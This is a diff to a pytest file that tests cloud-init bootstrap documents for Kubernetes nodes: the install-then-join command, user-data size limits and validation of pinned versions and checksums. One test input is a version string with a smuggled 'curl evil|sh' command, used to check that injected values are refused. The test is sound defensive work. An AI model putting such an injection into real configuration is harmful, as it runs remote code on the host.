@@ -7,14 +7,18 @@ cloud-config where the ``cloud-init`` Debian package is installed (.ci/run insta
 from __future__ import annotations
 
 import base64
-import shutil
 import subprocess
 from datetime import datetime, timezone
 
 import pytest
 
 from fleet.cluster import gpufleet_provider_id
+from tests.tools import needs
 from providers.cluster.bootstrap import (
+    DEFAULT_NODE_INSTALL,
+    INSTALL_SCRIPT_PATH,
+    PinnedSums,
+    load_node_install,
     DISCOVERY_CONFIG_PATH,
     JOIN_CONFIG_PATH,
     read_join_discovery,
@@ -73,16 +77,65 @@ def test_the_join_configuration_is_kubeadm_v1beta4() -> None:
     assert config["nodeRegistration"]["name"] == "aws-use1-1a2b3c4d"
 
 
-def test_the_document_runs_kubeadm_join_and_removes_the_token_file() -> None:
+def test_the_document_runs_the_install_step_then_kubeadm_join_and_removes_the_token_file() -> None:
     doc = read_cloud_config(render_user_data(params()))
     files = {f["path"]: f for f in doc["write_files"]}
-    assert set(files) == {JOIN_CONFIG_PATH, DISCOVERY_CONFIG_PATH}
-    assert all(f["permissions"] == "0600" for f in files.values())
-    assert doc["runcmd"] == [["kubeadm", "join", "--config", JOIN_CONFIG_PATH],
+    assert set(files) == {JOIN_CONFIG_PATH, DISCOVERY_CONFIG_PATH, INSTALL_SCRIPT_PATH}
+    assert files[JOIN_CONFIG_PATH]["permissions"] == files[DISCOVERY_CONFIG_PATH]["permissions"] == "0600"
+    # One shell line: cloud-init's runcmd script goes on past a failed command, `&&` does not.
+    assert doc["runcmd"] == [f"sh {INSTALL_SCRIPT_PATH} && kubeadm join --config {JOIN_CONFIG_PATH}",
                              ["rm", "-f", JOIN_CONFIG_PATH, DISCOVERY_CONFIG_PATH]]
+    assert TOKEN.split(".")[1] not in files[INSTALL_SCRIPT_PATH]["content"]
 
 
-@pytest.mark.skipif(not shutil.which("cloud-init"), reason="the cloud-init package is not installed")
+def test_the_document_fits_the_smallest_user_data_a_provider_takes() -> None:
+    """AWS takes 16 KB of user data (before base64), Hetzner 32 KiB, Lambda 1 MB: the document,
+    install step included, with a kubeadm CA of a 4096-bit RSA key (the largest kubeadm makes)."""
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import rsa
+    from cryptography.x509.oid import NameOID
+
+    key = rsa.generate_private_key(public_exponent=65537, key_size=4096)
+    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "kubernetes")])
+    now = datetime.now(timezone.utc)
+    ca = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
+          .serial_number(1).not_valid_before(now).not_valid_after(now.replace(year=now.year + 10))
+          .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True).sign(key, hashes.SHA256()))
+    ca_data = base64.b64encode(ca.public_bytes(serialization.Encoding.PEM)).decode()
+    shipped = load_node_install(DEFAULT_NODE_INSTALL)
+    pinned = shipped.model_copy(update={"sha256": {arch: PinnedSums(**{p: "f" * 64 for p in PinnedSums.model_fields})
+                                                   for arch in ("amd64", "arm64")}})
+    size = len(render_user_data(params(ca_data=ca_data), install=pinned).encode())
+    assert size <= 16 * 1024, size
+
+
+def test_the_shipped_pins_are_valid_and_pin_no_unchecked_sum() -> None:
+    pins = load_node_install(DEFAULT_NODE_INSTALL)
+    assert pins.versions.kubernetes.startswith("v1.") and set(pins.sha256) == {"amd64", "arm64"}
+    assert pins.unpinned("amd64") == list(PinnedSums.model_fields), "no sum nobody checked"
+
+
+@pytest.mark.parametrize("field, value", [
+    ("versions.kubernetes", "1.36.3"), ("versions.containerd", "2.4.2; curl evil|sh"),
+    ("sha256.amd64.kubelet", "F" * 64), ("sha256.amd64.runc", "abc"), ("sha256.amd64.surprise", "0" * 64),
+])
+def test_pins_that_could_break_the_script_are_refused_by_name(tmp_path, field, value) -> None:
+    import yaml
+
+    raw = yaml.safe_load(DEFAULT_NODE_INSTALL.read_text())
+    section, *rest = field.split(".")
+    target = raw[section]
+    for step in rest[:-1]:
+        target = target[step]
+    target[rest[-1]] = value
+    (tmp_path / "pins.yaml").write_text(yaml.safe_dump(raw))
+    with pytest.raises(BootstrapError) as refused:
+        load_node_install(tmp_path / "pins.yaml")
+    assert field in str(refused.value) and value not in str(refused.value)
+
+
+@needs("cloud-init")
 def test_cloud_init_accepts_the_document(tmp_path) -> None:
     document = tmp_path / "user-data"
     document.write_text(render_user_data(params()))
@@ -90,7 +143,7 @@ def test_cloud_init_accepts_the_document(tmp_path) -> None:
     assert checked.returncode == 0 and "Valid cloud-config" in checked.stdout, checked.stdout + checked.stderr
 
 
-@pytest.mark.skipif(not shutil.which("cloud-init"), reason="the cloud-init package is not installed")
+@needs("cloud-init")
 def test_cloud_init_schema_can_fail(tmp_path) -> None:
     """The check above is a real one: a broken document is refused."""
     document = tmp_path / "user-data"
